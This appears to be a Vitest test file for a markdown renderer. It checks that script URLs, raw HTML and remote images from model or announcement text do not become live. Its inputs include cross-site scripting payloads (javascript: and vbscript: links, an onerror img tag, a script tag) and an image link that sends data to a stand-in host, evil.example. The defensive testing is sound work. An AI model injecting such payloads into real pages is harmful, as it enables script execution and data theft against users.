import { MantineProvider } from '@mantine/core';
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import MarkdownRenderer from './markdown-renderer';

const rendered = (text: string) =>
  render(
    <MantineProvider>
      <MarkdownRenderer text={text} />
    </MantineProvider>,
  ).container;

describe('markdown renderer: what a model or an announcement writes cannot run or fetch', () => {
  it('leaves a link with a script URL as its text', () => {
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', 'java&#x09;script:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>']) {
      const c = rendered(`[click me](${url}) and <javascript:alert(1)>`);
      expect(c.querySelectorAll('a'), url).toHaveLength(0);
      expect(c.textContent).toContain('click me');
    }
  });

  it('keeps ordinary links, opened apart from the app', () => {
    const a = rendered('[docs](https://example.test/docs)').querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.test/docs');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('renders raw HTML as text and fetches no image until asked', () => {
    const c = rendered('<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n![x](http://evil.example/steal?d=1)');
    expect(c.querySelectorAll('img, script')).toHaveLength(0);
    expect(c.textContent).toContain('<img src=x onerror=alert(1)>');
    expect(c.querySelector('[data-testid="load-image"]')).not.toBeNull();
  });
});
